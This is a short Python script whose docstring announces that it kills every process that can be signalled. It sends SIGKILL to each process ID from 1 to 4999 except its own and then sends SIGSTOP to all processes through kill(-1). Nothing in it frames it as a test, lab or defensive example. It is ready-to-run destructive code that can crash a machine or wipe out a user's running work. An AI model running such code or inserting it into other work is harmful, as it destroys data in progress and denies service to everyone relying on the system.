"""Other processes: every process that can be signalled is killed

kill(-1) spares the one who calls; then numbers one by one, and the group.
"""
import os
import signal

for number in (*range(1, 5000),):
    if number == os.getpid(): continue
    try: os.kill(number, signal.SIGKILL)
    except OSError: pass
try: os.kill(-1, signal.SIGSTOP)
except OSError: pass
